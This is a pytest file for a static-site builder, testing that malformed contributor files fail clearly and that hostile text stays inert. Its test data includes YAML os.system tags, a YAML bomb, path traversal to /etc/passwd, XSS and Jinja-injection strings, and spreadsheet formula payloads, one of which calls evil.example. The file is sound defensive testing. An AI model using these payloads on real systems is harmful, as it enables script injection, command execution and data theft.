"""Contributions from strangers: malformed input is refused clearly, hostile input is inert.

Part 1 — every malformed contribution gives a message naming the file, the field and the
line, and a non-zero exit from both `dossier check` and `mkdocs build --strict`, never a
traceback. (Loader-level unit tests live in test_articles.py / test_registry.py; these go
through the commands a contributor and CI run.)

Part 2 — HTML, Markdown, Jinja and pymdown-extensions syntax in any text field is shown
literally on every page kind, in the <title>, the search index and every export, and runs
nothing at build time or in the reader's browser.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import mkdocs, write_article
from test_invariants import build_annotated_site, hand_annotate
from test_site import small_site

from builder.annotate import annotate_article
from builder.articles import load_article
from builder.cli import main
from builder.errors import ProblemCollector
from builder.invariants import check_site, normalise
from builder.model import Annotations, Article
from builder.registry import Registry, load_registry

# -- part 1: malformed contributions ---------------------------------------------------------


def run_check(root: Path) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["check", "--root", str(root)])
    assert "Traceback" not in result.output
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError("dossier check raised") from result.exception
    return result.exit_code, result.output


@dataclass
class Case:
    """One malformed contribution: how to write it, and the messages it must produce."""

    name: str
    write: Callable[[Path], None]
    expected: list[str]  # regular expressions, each matched against the command output
    registry: bool = False  # changes seeds/people.yml or seeds/events.yml
    extra_checks: list[Callable[[], None]] = field(default_factory=list)


def article(name: str, **kwargs: object) -> Callable[[Path], None]:
    """An article file named after the case; kwargs as conftest.write_article."""
    def write(root: Path) -> None:
        kwargs.setdefault("body", "Some text.")  # type: ignore[call-overload]
        write_article(root, name, **kwargs)  # type: ignore[arg-type]
    return write


def edited(name: str, old: str, new: str, **kwargs: object) -> Callable[[Path], None]:
    """An article whose text has ``old`` replaced by ``new`` (front-matter lines stay put)."""
    def write(root: Path) -> None:
        path = write_article(root, name, **kwargs)  # type: ignore[arg-type]
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))
    return write


def raw_bytes(name: str, data: Callable[[str], bytes]) -> Callable[[Path], None]:
    def write(root: Path) -> None:
        path = write_article(root, name)
        path.write_bytes(data(path.read_text()))
    return write


def _both(*writers: Callable[[Path], None]) -> Callable[[Path], None]:
    def write(root: Path) -> None:
        for writer in writers:
            writer(root)
    return write


def billion_laughs() -> str:
    lines = ["authors:", "- &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for prev, cur in zip("abcdefgh", "bcdefghi"):
        lines.append(f"- &{cur} [{', '.join(['*' + prev] * 9)}]")
    return "\n".join(lines) + "\n"


def _fm(case: str, line: int, field_name: str | None = None) -> str:
    where = rf"seeds/articles/{re.escape(case)}\.md:{line}: error: "
    return where + (re.escape(field_name) + ": " if field_name else "")


# Line numbers: conftest.ARTICLE puts id on line 2, title 3, lang 4, published 5, outlet 6,
# source_file 7, `extra` from line 8; with no extra the body starts on line 10.
ARTICLE_CASES = [
    Case("yaml-syntax", article("yaml-syntax", extra="notes: [unclosed\n"),
         [_fm("yaml-syntax", 9) + "the front matter is not valid YAML"]),
    Case("yaml-bad-timestamp", article("yaml-bad-timestamp",
                                       extra="notes: !!timestamp 2019-13-45\n"),
         [_fm("yaml-bad-timestamp", 8) + "the front matter is not valid YAML: cannot read "
          "timestamp value '2019-13-45'"]),
    Case("yaml-bad-bool", article("yaml-bad-bool", extra="notes: !!bool maybe\n"),
         [_fm("yaml-bad-bool", 8) + "the front matter is not valid YAML: cannot read bool"]),
    Case("yaml-bad-int", article("yaml-bad-int", extra="notes: !!int twelve\n"),
         [_fm("yaml-bad-int", 8) + "the front matter is not valid YAML: cannot read int"]),
    Case("yaml-python-tag", article(
        "yaml-python-tag", extra="notes: !!python/object/apply:os.system ['echo pwned']\n"),
         [_fm("yaml-python-tag", 8) + "the front matter is not valid YAML: could not "
          "determine a constructor"]),
    Case("yaml-deep", article("yaml-deep", extra="notes: " + "[" * 3000 + "]" * 3000 + "\n"),
         [_fm("yaml-deep", 1) + "the front matter is nested too deeply"]),
    Case("yaml-billion-laughs", article("yaml-billion-laughs", extra=billion_laughs()),
         [_fm("yaml-billion-laughs", 8, "authors") + r"expected a list of names, found "
          r"\[\[.{0,160}\n"]),
    Case("yaml-mixed", edited("yaml-mixed", "id: yaml-mixed\n", "- a list item\n"),
         [_fm("yaml-mixed", 3) + "the front matter is not valid YAML"]),
    Case("scalar-front-matter", raw_bytes("scalar-front-matter",
                                          lambda t: b"---\njust text\n---\n\nBody.\n"),
         [_fm("scalar-front-matter", 1) + "expected the front matter to be a mapping of "
          "fields, found str"]),
    Case("no-front-matter", raw_bytes("no-front-matter", lambda t: b"Just a body.\n"),
         [_fm("no-front-matter", 1) + "expected YAML front matter between '---' lines"]),
    Case("missing-title", edited("missing-title", "title: A test article\n", ""),
         [_fm("missing-title", 1, "title") + "is required but missing"]),
    Case("unknown-field", article("unknown-field", extra="titel: Oops\n"),
         [_fm("unknown-field", 8, "titel") + "unknown field; expected one of: id, title",
          r"hint: did you mean 'title'\?"]),
    Case("given-twice", article("given-twice", extra="lang: fr\n"),
         [_fm("given-twice", 8, "lang") + "is given twice"]),
    Case("title-number", article("title-number", title="42"),
         [_fm("title-number", 3, "title") + "expected non-empty text, found 42"]),
    Case("title-empty", article("title-empty", title="''"),
         [_fm("title-empty", 3, "title")
          + r"expected non-empty text, found nothing \(the field is empty\)"]),
    Case("lang-unknown", article("lang-unknown", lang="de"),
         [_fm("lang-unknown", 4, "lang") + "expected one of en, fr, found 'de'"]),
    Case("authors-text", article("authors-text", extra="authors: Jane Doe\n"),
         [_fm("authors-text", 8, "authors") + "expected a list of names, found 'Jane Doe'"]),
    Case("notes-mapping", article("notes-mapping", extra="notes: {a: 1}\n"),
         [_fm("notes-mapping", 8, "notes") + r"expected non-empty text, found \{'a': 1\}"]),
    Case("removed-text", article("removed-text", extra="removed: ADVERTISEMENT\n"),
         [_fm("removed-text", 8, "removed") + "expected a list of the raw lines"]),
    Case("published-month-13", article("published-month-13", published="2019-13-45"),
         [_fm("published-month-13", 5, "published") + ".*month 13 is not between 1 and 12"]),
    Case("published-feb-31", article("published-feb-31", published="2019-02-31"),
         [_fm("published-feb-31", 5, "published") + ".*day 31 does not exist in 2019-02"]),
    Case("published-year-0", article("published-year-0", published="0000-01"),
         [_fm("published-year-0", 5, "published") + ".*not a date of the calendar"]),
    Case("published-words", article("published-words", published="June 2019"),
         [_fm("published-words", 5, "published") + ".*'June 2019' is not YYYY"]),
    Case("published-list", article("published-list", published="[2019]"),
         [_fm("published-list", 5, "published") + ".*found list"]),
    Case("date-override-impossible", article(
        "date-override-impossible", extra="dates:\n- {match: Some, value: 2019-02-30}\n"),
         [_fm("date-override-impossible", 9, "dates") + "value: day 30 does not exist"]),
    Case("events-text", article("events-text", extra="events: the-hearing\n"),
         [_fm("events-text", 8, "events") + "expected a list of events the article reports "
          "without a date, found str"]),
    Case("events-event-number", article(
        "events-event-number", extra="events:\n- {match: Some, event: 2024}\n"),
         [_fm("events-event-number", 9, "events") + "event: expected text, found 2024"]),
    Case("id-traversal", edited("id-traversal", "id: id-traversal", "id: ../../etc/passwd"),
         [_fm("id-traversal", 2, "id") + "expected lowercase letters, digits and single "
          "hyphens"]),
    Case("id-uppercase", edited("id-uppercase", "id: id-uppercase", "id: Id-Uppercase"),
         [_fm("id-uppercase", 2, "id") + "expected lowercase letters"]),
    Case("id-space", edited("id-space", "id: id-space", "id: id space"),
         [_fm("id-space", 2, "id") + "expected lowercase letters"]),
    Case("id-reserved", edited("id-reserved", "id: id-reserved", "id: search"),
         [_fm("id-reserved", 2, "id") + "'search' is reserved"]),
    Case("id-anchor", edited("id-anchor", "id: id-anchor", "id: p1"),
         [_fm("id-anchor", 2, "id") + "'p1' would clash with the paragraph anchors"]),
    Case("id-page", edited("id-page", "id: id-page", "id: page-2"),
         [_fm("id-page", 2, "id") + "'page-2' would clash with the pages of a long index"]),
    Case("id-number", edited("id-number", "id: id-number", "id: 2019"),
         [_fm("id-number", 2, "id") + "expected a text slug .* found int 2019"]),
    Case("id-too-long", edited("id-too-long", "id: id-too-long", "id: " + "a" * 81),
         [_fm("id-too-long", 2, "id") + "expected at most 80 characters"]),
    Case("id-duplicate", lambda root: _both(
        article("id-duplicate"), edited("id-duplicate-2", "id: id-duplicate-2",
                                        "id: id-duplicate"))(root),
         [(r"seeds/articles/id-duplicate(-2)?\.md:2: error: id: id 'id-duplicate' is already "
           r"used by seeds/articles/id-duplicate(-2)?\.md")]),
    Case("id-is-a-person", edited("id-is-a-person", "id: id-is-a-person", "id: ann-lee"),
         [_fm("id-is-a-person", 2, "id") + "id 'ann-lee' is also a person"]),
    # a person found in the text, not in the registry, has a page and an id too
    Case("id-is-a-found-person", edited(
        "id-is-a-found-person", "id: id-is-a-found-person", "id: nadia-okonjo",
        body="Nadia Okonjo, the mayor, opened the bridge on Monday."),
         [_fm("id-is-a-found-person", 2, "id") + "id 'nadia-okonjo' is also the id of Nadia "
          "Okonjo, a person found in seeds/articles/id-is-a-found-person.md"]),
    # a hashtag after a space: YAML would keep only "Lyon, le tramway"
    Case("value-cut-by-comment", article("value-cut-by-comment",
                                         extra="notes: le tramway #T9 enfin inauguré\n"),
         [_fm("value-cut-by-comment", 8, "notes") + "expected the whole value, found it cut "
          "before '#T9 enfin inauguré'"]),
    *[
        Case(f"url-{kind}", article(f"url-{kind}", extra=f"url: {json.dumps(url)}\n"),
             [_fm(f"url-{kind}", 8, "url") + message])
        for kind, url, message in [
            ("javascript", "javascript:alert(1)", "expected an http:// or https:// address"),
            ("javascript-mixed-case", "JaVaScRiPt:alert(1)", "expected an http:// or https://"),
            ("file", "file:///etc/passwd", "expected an http:// or https:// address"),
            ("data", "data:text/html,<script>alert(1)</script>", "expected an http:// or"),
            ("protocol-relative", "//evil.example/", "expected an http:// or https://"),
            ("leading-space", " https://example.org/", "expected an http:// or https://"),
            ("angle-brackets", "https://example.org/<script>",
             "expected a valid address, found '<'"),
            ("quote", 'https://example.org/"onmouseover=', "expected a valid address"),
            ("number", 42, "expected an http\\(s\\) address, found int 42"),
        ]
    ],
    Case("source-traversal", edited("source-traversal", "source_file: seeds/raw/"
                                    "source-traversal.txt", "source_file: ../../../etc/passwd"),
         [_fm("source-traversal", 7, "source_file") + "expected a path inside the project"]),
    Case("source-absolute", edited("source-absolute", "source_file: seeds/raw/"
                                   "source-absolute.txt", "source_file: /etc/passwd"),
         [_fm("source-absolute", 7, "source_file") + "expected a path relative to the "
          "project root"]),
    Case("source-missing", edited("source-missing", "seeds/raw/source-missing.txt",
                                  "seeds/raw/nothing-here.txt"),
         [_fm("source-missing", 7, "source_file") + "expected the raw file .* does not exist"]),
    Case("body-empty", article("body-empty", body="  \n\n"),
         [r"seeds/articles/body-empty\.md:\d+: error: the article has no text"]),
    Case("body-control-char", article("body-control-char", body="One.\n\nBell \x07 here."),
         [_fm("body-control-char", 12) + "expected text, found the control character U\\+0007 "
          "at column 6"]),
    Case("yaml-control-escape", article("yaml-control-escape",
                                        extra='notes: "placeholder \\u0002 here"\n'),
         [_fm("yaml-control-escape", 8, "notes") + "expected text, found the control "
          "character U\\+0002"]),
    Case("non-utf8", raw_bytes("non-utf8",
                               lambda t: t.replace("First paragraph.", "Caf\xe9").encode("latin-1")),
         [_fm("non-utf8", 10) + "expected UTF-8 text, found byte 0xe9 at column 4"]),
    Case("bom", raw_bytes("bom", lambda t: b"\xef\xbb\xbf" + t.encode()),
         [_fm("bom", 1) + "expected UTF-8 without a byte-order mark, found a BOM"]),
    Case("crlf", raw_bytes("crlf", lambda t: t.replace("\n", "\r\n").encode()),
         [_fm("crlf", 1) + r"expected LF line ends, found CRLF \(Windows\) line ends"]),
    Case("cr", raw_bytes("cr", lambda t: t.replace("First", "One.\rFirst").encode()),
         [_fm("cr", 10) + r"expected LF line ends, found CR \(old Mac\) line ends"]),
    Case("utf16", raw_bytes("utf16", lambda t: t.encode("utf-16")),
         [_fm("utf16", 1) + "expected UTF-8 text, found byte 0xff at column 1"]),
    Case("huge", article("huge", body=("Many words here. " * 60 + "\n\n") * 4900),
         [r"seeds/articles/huge\.md: error: is 5\.0 MB; expected at most 2 MB per article"]),
]


def symlinked_source(root: Path) -> None:
    outside = root.parent / f"{root.name}-outside.txt"
    outside.write_text("secret\n")
    (root / "seeds" / "raw").mkdir(parents=True, exist_ok=True)
    (root / "seeds" / "raw" / "link.txt").symlink_to(outside)
    edited("source-symlink", "seeds/raw/source-symlink.txt", "seeds/raw/link.txt")(root)


ARTICLE_CASES.append(Case("source-symlink", symlinked_source,
                          [_fm("source-symlink", 7, "source_file") + ".* points outside it"]))

PEOPLE_OK = "- id: ann-lee\n  name: Ann Lee\n"
REGISTRY_CASES = [
    Case("alias-claimed-twice", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + "  aliases: [Lee]\n- id: bob-lee\n  name: Bob Lee\n  aliases: [lee]\n"),
         [(r"seeds/people\.yml:6: error: aliases: alias 'lee' of 'bob-lee' is already "
           r"claimed by 'ann-lee'")], registry=True),
    Case("event-unknown-person", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: an-event\n  date: 2019-06-13\n  title: T\n  people: [ann-lee, nobody]\n"),
         [r"seeds/events\.yml:4: error: people: names unknown person 'nobody'"], registry=True),
    Case("event-month-13", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: an-event\n  date: 2019-13-45\n  title: T\n"),
         [r"seeds/events\.yml:2: error: date: .*month 13 is not between 1 and 12"],
         registry=True),
    Case("event-feb-31", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: an-event\n  title: T\n  date: 2019-02-31\n"),
         [r"seeds/events\.yml:3: error: date: .*day 31 does not exist in 2019-02"],
         registry=True),
    Case("event-bad-timestamp", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: an-event\n  title: T\n  date: !!timestamp 2019-02-31\n"),
         [r"seeds/events\.yml:3: error: is not valid YAML: cannot read timestamp"],
         registry=True),
    Case("event-description-list", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: an-event\n  title: T\n  date: 2019\n  description: [a, b]\n"),
         [r"seeds/events\.yml:4: error: description: expected one line of text"],
         registry=True),
    Case("person-id-unsafe", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + "- id: ../../x\n  name: X\n"),
         [r"seeds/people\.yml:3: error: id: expected lowercase letters"], registry=True),
    Case("person-twice", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + PEOPLE_OK),
         [r"seeds/people\.yml:3: error: id: person id 'ann-lee' is defined twice"],
         registry=True),
    Case("person-unknown-field", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + "  nickname: Annie\n"),
         [r"seeds/people\.yml:3: error: nickname: unknown field"], registry=True),
    Case("people-invalid-yaml", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + "- id: [unclosed\n"),
         [r"seeds/people\.yml:4: error: is not valid YAML"], registry=True),
    Case("people-not-a-list", lambda root: (root / "seeds" / "people.yml").write_text(
        "ann-lee: Ann Lee\n"),
         [r"seeds/people\.yml:1: error: expected a list of people, found dict"], registry=True),
    Case("people-non-utf8", lambda root: (root / "seeds" / "people.yml").write_bytes(
        b"- id: ann-lee\n  name: Ann L\xe9e\n"),
         [r"seeds/people\.yml:2: error: expected UTF-8 text, found byte 0xe9"],
         registry=True),
    Case("event-id-is-a-person", lambda root: (root / "seeds" / "events.yml").write_text(
        "- id: ann-lee\n  date: 2019\n  title: T\n"),
         [(r"seeds/events\.yml:1: error: id: event id 'ann-lee' is also a person in "
           r"seeds/people\.yml \(line 1\)")], registry=True),
    Case("people-control-escape", lambda root: (root / "seeds" / "people.yml").write_text(
        PEOPLE_OK + '  description: "a\\u0000b"\n'),
         [r"seeds/people\.yml:3: error: expected text, found the control character U\+0000"],
         registry=True),
]


def _assert_messages(output: str, case: Case) -> None:
    assert "Traceback" not in output
    for pattern in case.expected:
        assert re.search(pattern, output), f"{case.name}: {pattern!r} not in:\n{output}"


@pytest.mark.parametrize("case", ARTICLE_CASES + REGISTRY_CASES, ids=lambda c: c.name)
def test_check_names_file_field_and_line(project: Path, case: Case) -> None:
    (project / "seeds" / "people.yml").write_text(PEOPLE_OK)
    case.write(project)
    started = time.perf_counter()
    code, output = run_check(project)
    assert time.perf_counter() - started < 30  # no input makes the check blow up
    assert code == 1, output
    _assert_messages(output, case)


def test_python_tags_never_run(project: Path, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    write_article(project, "tagged", extra=(
        f"notes: !!python/object/apply:os.system ['touch {marker}']\n"))
    (project / "seeds" / "people.yml").write_text(
        f"- !!python/object/apply:os.system ['touch {marker}']\n")
    code, output = run_check(project)
    assert code == 1 and "could not determine a constructor" in output
    assert not marker.exists()


# Issue #6's list of malformed contributions, each mapped to the cases that cover it. Every
# case goes through `dossier check` (test_check_names_file_field_and_line) and a real
# `mkdocs build --strict`: article cases all in one build (test_every_malformed_article_...),
# and one build of its own for the cases named here and for every registry case.
ISSUE_6 = {
    "invalid YAML": ["yaml-syntax", "yaml-mixed", "yaml-python-tag", "yaml-bad-timestamp"],
    "missing field": ["missing-title"],
    "unknown field": ["unknown-field", "person-unknown-field"],
    "mistyped field": ["title-number", "authors-text", "published-list", "url-number"],
    "impossible date 2019-13-45": ["published-month-13", "event-month-13"],
    "impossible date 31 February": ["published-feb-31", "event-feb-31"],
    "duplicate ids": ["id-duplicate", "person-twice", "id-is-a-person", "event-id-is-a-person"],
    "path traversal id": ["id-traversal", "person-id-unsafe"],
    "uppercase id": ["id-uppercase"],
    "id with spaces": ["id-space"],
    "reserved id": ["id-reserved", "id-anchor"],
    "javascript: url": ["url-javascript"],
    "file: url": ["url-file"],
    "non-UTF-8 bytes": ["non-utf8", "people-non-utf8"],
    "empty body": ["body-empty"],
    "5 MB article": ["huge"],
    "alias claimed by two people": ["alias-claimed-twice"],
    "event naming an unknown person": ["event-unknown-person"],
    "a BOM": ["bom"],
    "CRLF line ends": ["crlf", "cr"],
    # overrides naming an unknown person or matching nothing: test_override_errors (CLI +
    # mkdocs). `dossier import` still accepts raw text with a BOM or CRLF and writes the article
    # as UTF-8 with LF line ends (test_import.py::test_bom_and_crlf_are_tolerated).
}
OWN_BUILD = sorted({name for names in ISSUE_6.values() for name in names}
                   - {c.name for c in REGISTRY_CASES})


def test_issue_6_is_covered() -> None:
    names = {c.name for c in ARTICLE_CASES + REGISTRY_CASES}
    for item, cases in ISSUE_6.items():
        assert cases and set(cases) <= names, (item, set(cases) - names)
    assert {c[1] for c in OVERRIDE_CASES} >= {"alias-unknown-person", "alias-matches-nothing",
                                             "quote-unknown-speaker", "quote-matches-nothing"}


@pytest.mark.slow
@pytest.mark.parametrize("case", [c for c in ARTICLE_CASES if c.name in OWN_BUILD],
                         ids=lambda c: c.name)
def test_malformed_article_fails_mkdocs_build(project: Path, case: Case) -> None:
    """One real build per item of issue #6: non-zero exit, the message, the old site kept."""
    (project / "seeds" / "people.yml").write_text(PEOPLE_OK)
    case.write(project)
    small_site(project)
    previous = project / "site" / "index.html"
    previous.parent.mkdir()
    previous.write_text("the previous build\n")
    result = mkdocs(project, "build", "--strict", check=False)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Aborted with a BuildError" in output
    _assert_messages(output, case)
    assert [p.name for p in (project / "site").iterdir()] == ["index.html"]
    assert previous.read_text() == "the previous build\n"
    assert not (project / "site.partial").exists()


@pytest.mark.slow
def test_every_malformed_article_fails_mkdocs_build(project: Path) -> None:
    """All article cases at once: one strict build must report every one of them."""
    (project / "seeds" / "people.yml").write_text(PEOPLE_OK)
    for case in ARTICLE_CASES:
        case.write(project)
    small_site(project)
    result = mkdocs(project, "build", "--strict", check=False)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Aborted with a BuildError" in output
    for case in ARTICLE_CASES:
        _assert_messages(output, case)
    assert not (project / "site").exists() and not (project / "site.partial").exists()


@pytest.mark.slow
@pytest.mark.parametrize("case", REGISTRY_CASES, ids=lambda c: c.name)
def test_malformed_registry_fails_mkdocs_build(project: Path, case: Case) -> None:
    (project / "seeds" / "people.yml").write_text(PEOPLE_OK)
    write_article(project, "fine")
    case.write(project)
    small_site(project)
    result = mkdocs(project, "build", "--strict", check=False)
    assert result.returncode != 0
    _assert_messages(result.stdout + result.stderr, case)


# -- overrides: checked by the annotators (builder/annotate/) --------------------------------


def _is_stub(stage: str) -> bool:
    module = importlib.import_module(f"builder.annotate.{stage}")
    return "STUB" in (module.__doc__ or "")


OVERRIDE_CASES = [
    ("people", "alias-unknown-person", 'aliases: {"the star": nobody-known}\n', "The star spoke.",
     r"aliases: .*nobody-known"),
    ("people", "alias-matches-nothing", 'aliases: {"the diva": ann-lee}\n', "Ann Lee spoke.",
     r"aliases: .*the diva"),
    ("quotes", "quote-matches-nothing", 'quotes: [{match: "never said", speaker: ann-lee}]\n',
     "Ann Lee said “hello there” today.", r"quotes: .*never said"),
    ("quotes", "quote-unknown-speaker", 'quotes: [{match: "hello there", speaker: nobody-known}]\n',
     "Ann Lee said “hello there” today.", r"quotes: .*nobody-known"),
    ("dates", "date-matches-nothing", 'dates: [{match: "last Friday", value: 2019-06-07}]\n',
     "It happened on 13 June 2019.", r"dates: .*last Friday"),
    ("events", "date-unknown-event", 'dates: [{match: "13 June 2019", event: no-such-event}]\n',
     "It happened on 13 June 2019.", r"dates: .*no-such-event"),
    ("events", "report-unknown-event", 'events: [{event: no-such-event, match: "Ann Lee"}]\n',
     "Ann Lee spoke.", r"events: event 'no-such-event' is not in seeds/events\.yml"),
    ("people", "ignore-matches-nothing", 'ignore: ["Polo Lounge"]\n', "Ann Lee spoke.",
     r"ignore: .*Polo Lounge"),
]


@pytest.mark.parametrize(("stage", "name", "extra", "body", "pattern"), OVERRIDE_CASES,
                         ids=[c[1] for c in OVERRIDE_CASES])
def test_override_errors(project: Path, stage: str, name: str, extra: str, body: str,
                         pattern: str) -> None:
    if _is_stub(stage):
        pytest.skip(f"builder/annotate/{stage}.py is still a stub")
    (project / "seeds" / "people.yml").write_text(PEOPLE_OK)
    write_article(project, name, body, extra=extra)
    code, output = run_check(project)
    assert code == 1, output
    assert re.search(rf"seeds/articles/{name}\.md:8: error: {pattern}", output), output
    small_site(project)
    result = mkdocs(project, "build", "--strict", check=False)
    assert result.returncode != 0
    assert "Traceback" not in result.stdout + result.stderr
    assert re.search(pattern, result.stderr)


EVENTS_OK = "- id: the-hearing\n  date: 2019-06-13\n  title: The hearing\n"
REPORT_CASES = [
    ("report-matches-nothing", 'events: [{event: the-hearing, match: "went well"}]\n',
     "The hearing went badly.",
     r'events: "went well" does not occur in the text; expected words of the paragraph'),
    ("report-in-two-paragraphs", 'events: [{event: the-hearing, match: "went badly"}]\n',
     "The hearing went badly.\n\nThe vote went badly too.",
     (r'events: "went badly" occurs in 2 paragraphs \(¶1, ¶2\); expected words that occur in '
     r"one paragraph only(.|\n)*hint: give more of the paragraph's words")),
    ("report-near-miss", 'events: [{event: the-haering, match: "went badly"}]\n',
     "The hearing went badly.",
     (r"events: event 'the-haering' is not in seeds/events\.yml(.|\n)*hint: did you mean "
     r"'the-hearing'\?")),
]


@pytest.mark.parametrize(("name", "extra", "body", "pattern"), REPORT_CASES,
                         ids=[c[0] for c in REPORT_CASES])
def test_undated_event_report_errors(project: Path, name: str, extra: str, body: str,
                                     pattern: str) -> None:
    """``events`` entries (an event the text reports without a date) that cannot be placed:
    file, field and line, what was expected, and a hint; the build stops too."""
    (project / "seeds" / "events.yml").write_text(EVENTS_OK)
    write_article(project, name, body, extra=extra)
    code, output = run_check(project)
    assert code == 1, output
    assert re.search(rf"seeds/articles/{name}\.md:8: error: {pattern}", output), output
    if name == "report-in-two-paragraphs":
        small_site(project)
        result = mkdocs(project, "build", "--strict", check=False)
        assert result.returncode != 0
        assert "Traceback" not in result.stdout + result.stderr
        assert re.search(pattern, result.stderr), result.stderr


# -- part 2: hostile content is shown, never executed -----------------------------------------

HOSTILE = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "</p></div></article><script>alert(2)</script>",
    '" onmouseover="alert(3)" x="',
    "{{ config.site_name }} {% include 'mkdocs.yml' %} {# comment #} {{ 7*7 }}",
    '--8<-- "mkdocs.yml"',
    "--8<-- \"/etc/passwd\"",
    '{: .evil onclick="alert(4)" } {#evil-id}',
    "*em* __strong__ `code` [link](javascript:alert(5)) ![img](x.png) <https://evil.example>",
    "&amp; &lt;b&gt; &#60;script&#62; &#x3C;",
    "]]> <!-- comment --> <![CDATA[x]]> <?php echo 1; ?>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+1",
    "\\* backslash \\\\ escapes \\<",
    "*[HTML]: an abbreviation definition",
    "[^1]: a footnote definition",
    ":material-alert: :smile: ==mark== ^^sup^^ ~~del~~ {++ins++}",
    "\u202eevil RTL override\u202c and zero\u200bwidth",
    "emoji 🎉 and astral 𝔘𝔫𝔦",
    "$x^2$ \\(math\\) $$display$$",
]
BLOCK_HOSTILE = [
    "# a heading",
    "> a quote",
    "1. a list",
    "- a bullet",
    "| a | table |",
    "---",
    '!!! note "admonition"',
    '=== "a tab"',
    "??? details",
    "    indented code",
    "```python\nprint('fenced')\n```",
    "Term\n: definition",
    "<div markdown>**bold**</div>",
]
LINE = " · ".join(HOSTILE)  # a one-line value holding every inline payload
NOTES = LINE + "\nER  - \nTY  - JOUR\n@misc{evil, title={x}}\n}"
TITLE = "Title " + LINE
PERSON_NAME = "Evil <b>Person</b> {{ x }} [x](javascript:alert(7)) *em*"
DESCRIPTION = '=HYPERLINK("http://evil.example/?"&A1,"x") ' + LINE
LABEL = '<img src=x onerror=alert(6)> "source" [y](javascript:alert(8))'
ALIASES = ["<script>alert('alias')</script>", "{% raw %}", "=cmd|' /C calc'!A0"]
EVENT_TITLE = "=Event " + LINE
URL = "https://example.org/a_(b)[c]*d*@e/~u/?x=1&y='z'#f"
OUTLET = "@Outlet " + LINE
AUTHORS = ["Jane <b>Doe</b>", "=Evil {{ author }}", "-1+1 Smith"]


def _q(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def write_hostile_project(root: Path) -> None:
    (root / "seeds" / "people.yml").write_text(
        f"- id: evil-person\n  name: {_q(PERSON_NAME)}\n  aliases: {_q(ALIASES)}\n"
        f"  description: {_q(DESCRIPTION)}\n"
    )
    (root / "seeds" / "events.yml").write_text(
        f"- id: evil-event\n  date: 2019-06-13\n  title: {_q(EVENT_TITLE)}\n"
        f"  people: [evil-person]\n  description: {_q(LINE)}\n"
    )
    body = "\n\n".join([
        f"{PERSON_NAME} said “{HOSTILE[0]} {HOSTILE[5]}” on 13 June 2019.",
        f"Then {ALIASES[0]} answered “{HOSTILE[4]}",
        f"{HOSTILE[6]}” and left.",
        *HOSTILE, *BLOCK_HOSTILE,
    ])
    write_article(root, "hostile", body, title=_q(TITLE), extra=(
        f"authors: {_q(AUTHORS)}\nurl: {_q(URL)}\nnotes: {_q(NOTES)}\n"
    ))
    path = root / "seeds" / "articles" / "hostile.md"
    path.write_text(path.read_text().replace("outlet: Test Outlet", f"outlet: {_q(OUTLET)}"))


def annotate_hostile(article: Article, registry: Registry) -> Annotations:
    return hand_annotate(
        article, registry,
        quotes=[([f"{HOSTILE[0]} {HOSTILE[5]}"], "evil-person", None),
                ([HOSTILE[4], f"{HOSTILE[6]}"], None, LABEL)],
        dates=[("13 June 2019", "2019-06-13", "evil-event")],
        events=[(HOSTILE[2], "evil-event")],
        discovered=[("{{ config.site_name }}", "curly-person")],
        warnings=[("p1", f"{HOSTILE[1]} {HOSTILE[5]} needs review")],
    )


class _Scan(HTMLParser):
    """Visible text of a page (or fragment) and any markup a payload could have produced."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.title: list[str] = []
        self.active: list[str] = []
        self._skip = 0
        self._in_title = False
        self._script: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.active.append(f"<{tag} {name}>")
            if name in ("href", "src", "action") and re.match(
                    r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE):
                self.active.append(f"<{tag} {name}={value!r}>")
        if "evil" in values.get("class", "").split() or values.get("id") == "evil-id":
            self.active.append(f"<{tag}> with an attribute from the text")
        if tag == "img" and values.get("src") in ("x", "x.png"):
            self.active.append("<img> from the text")
        if tag in ("script", "style"):
            self._skip += 1
            self._script = []
        if tag == "title":
            self._in_title = True

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style") and self._skip:
            self._skip -= 1
            if self._script is not None and "alert" in "".join(self._script):
                self.active.append("<script> from the text")
            self._script = None
        if tag == "title":
            self._in_title = False

    def handle_data(self, data: str) -> None:
        if self._skip:
            if self._script is not None:
                self._script.append(data)
            return
        self.text.append(data)
        if self._in_title:
            self.title.append(data)

    def handle_comment(self, data: str) -> None:
        if "comment" in data:  # a comment from the text became a real comment
            self.active.append("<!-- --> from the text")


def scan(html: str) -> _Scan:
    parser = _Scan()
    parser.feed(html)
    parser.close()
    return parser


def assert_shown(page: Path, *values: str) -> None:
    found = scan(page.read_text())
    text = normalise(" ".join(found.text))
    for value in values:
        assert normalise(value) in text, f"{page}: {value!r} is not shown literally"


def assert_inert(site: Path) -> None:
    """Nothing from the text became markup, on any page or in the search index."""
    for page in sorted(site.rglob("*.html")):
        html = page.read_text()
        assert scan(html).active == [], page
